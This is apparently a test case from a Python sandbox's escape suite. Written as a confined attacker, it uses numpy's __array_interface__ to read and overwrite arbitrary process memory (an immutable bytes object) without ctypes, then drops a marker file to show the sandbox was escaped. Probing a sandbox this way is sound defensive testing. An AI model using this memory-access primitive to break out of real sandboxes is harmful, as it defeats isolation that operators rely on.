# A confined numpy user (default policy) as the attacker: numpy makes an
# array of any address from __array_interface__, with no ctypes at all.
import os

DATA = b"secimport ctypes door target"


class _Interface:
    def __init__(self, addr, n):
        self.__array_interface__ = {
            "data": (addr, False),
            "shape": (n,),
            "typestr": "|u1",
            "version": 3,
        }


def np_array_interface(marker_dir):
    import numpy

    mem = numpy.asarray(_Interface(id(DATA) + 32, len(DATA)))
    old = int(mem[0])
    mem[0] = ord("S")
    flipped = DATA[:1]
    mem[0] = old
    assert flipped == b"S", flipped
    open(os.path.join(marker_dir, "escaped_np_array_interface"), "w").close()
